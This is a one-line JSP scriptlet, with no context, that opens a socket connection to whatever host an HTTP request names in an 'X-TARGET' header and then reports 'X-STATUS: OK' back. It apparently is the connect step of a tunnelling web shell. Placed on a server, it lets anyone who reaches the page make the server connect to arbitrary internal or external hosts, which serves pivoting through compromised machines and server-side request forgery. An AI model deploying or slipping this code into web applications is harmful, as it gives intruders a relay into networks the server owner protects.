<% SocketChannel c = SocketChannel.open(); c.connect(new InetSocketAddress(request.getHeader("X-TARGET"), 80)); response.setHeader("X-STATUS", "OK"); %>
